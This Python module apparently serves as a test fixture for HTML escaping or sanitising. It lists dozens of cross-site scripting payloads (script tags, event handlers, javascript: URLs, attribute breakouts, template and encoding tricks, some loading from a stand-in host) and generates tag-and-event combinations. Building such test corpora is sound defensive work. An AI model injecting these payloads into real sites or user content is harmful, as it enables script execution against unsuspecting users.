# ruff: noqa: E501
"""What people type who mean harm: each would run a script somewhere if it came out as it went in."""

_CALL = "xss()"
_TAGS = (
    f"<script>{_CALL}</script>", f"<ScRiPt>{_CALL}</sCrIpT>", "<script src=//xss.example></script>",
    f"<script>{_CALL}//", f"</script><script>{_CALL}</script>", f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>", f"--><script>{_CALL}</script>", f"]]><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>", f"</template><script>{_CALL}</script>", f"<script\t>{_CALL}</script\t>",
    f"<img src=x onerror={_CALL}>", f"<img src=x onerror='{_CALL}'>", f"<img/src=x/onerror={_CALL}>",
    f"<IMG SRC=x ONERROR={_CALL}>", f"<svg onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>",
    f"<svg/onload={_CALL}>", f"<svg><animate onbegin={_CALL}>", f"<svg><a xlink:href=javascript:{_CALL}>xss</a>",
    f"<body onload={_CALL}>", f"<iframe src=javascript:{_CALL}></iframe>", f'<iframe srcdoc="<script>{_CALL}</script>">',
    f"<object data=javascript:{_CALL}></object>", "<embed src=//xss.example>", f"<a href=javascript:{_CALL}>xss</a>",
    f"<a href='java\tscript:{_CALL}'>xss</a>", f"<a href=' javascript:{_CALL}'>xss</a>",
    f"<a href=data:text/html,<script>{_CALL}</script>>xss</a>", f"<form action=javascript:{_CALL}><button>xss</button>",
    f"<button formaction=javascript:{_CALL}>xss</button>", f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>", f"<video><source onerror={_CALL}></video>", f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>", f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    "<base href=//xss.example/>", "<link rel=stylesheet href=//xss.example>", "<style>@import '//xss.example';</style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>", f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<x onclick={_CALL}>xss</x>", f"<div style='background:url(javascript:{_CALL})'>", f"<b hx-on:click={_CALL}>xss</b>",
    "<b hx-get=//xss.example hx-trigger=load>xss</b>", "<xss-tag>xss</xss-tag>",
)  # fmt: skip
_QUOTES = (
    f'" onmouseover="{_CALL}', f"' onmouseover='{_CALL}", f'"><script>{_CALL}</script>', f"'><script>{_CALL}</script>",
    f'" autofocus onfocus="{_CALL}" x="', f"` onmouseover=`{_CALL}", f'"/><svg onload={_CALL}>', f"javascript:{_CALL}",
    "{{ xss }}", "{% load xss %}", "${xss}", "<c-vars xss>", "&lt;script&gt;xss&lt;/script&gt;", "&#x3c;script>xss",
    "\u2028<script>xss</script>", "＜script＞xss＜/script＞", "\\x3cscript\\x3exss", "%3Cscript%3Exss", "=HYPERLINK(xss)",
)  # fmt: skip
PAYLOADS = (*_TAGS, *_QUOTES)

_BRINGERS = (
    "img src=x",
    "svg",
    "video src=x",
    "input autofocus",
    "details open",
    "div tabindex=1",
    "iframe",
    "a href=#x",
)
_EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onclick", "onpointerenter", "onanimationstart", "onmouseover", "onbegin",
)  # fmt: skip
EVERY = tuple(
    dict.fromkeys(
        (
            *PAYLOADS,
            *(f"<{bringer} {event}={_CALL}>" for bringer in _BRINGERS for event in _EVENTS),
            *(f'"><{bringer} {event}="{_CALL}">' for bringer in _BRINGERS[:4] for event in _EVENTS),
            *(f"'/><{bringer}/{event}='{_CALL}'//" for bringer in _BRINGERS[4:] for event in _EVENTS),
        )
    )
)
"""The same, and each way to bring something in with each event it can wait for."""
